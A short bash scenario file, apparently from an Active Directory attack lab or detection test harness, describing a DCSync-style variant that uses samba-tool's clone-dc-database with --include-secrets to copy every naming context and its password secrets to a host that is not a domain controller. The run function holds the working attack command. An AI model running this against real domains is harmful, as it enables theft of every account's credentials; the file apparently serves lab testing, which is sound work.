# shellcheck shell=bash disable=SC2034,SC2154  # settings are read, and variables set, by record and lab
based_on dcsync-impacket
title="The whole directory replicated by Samba's own tool"
about="As dcsync-impacket by a second stack: samba-tool copies every naming context with its secrets to a host that is no controller."
dialect='' account=''

run() {
  samba_login
  client samba-tool drs clone-dc-database "${realm,,}" --server "$server_name" --include-secrets --targetdir copy "${login[@]}" --use-kerberos=off
}
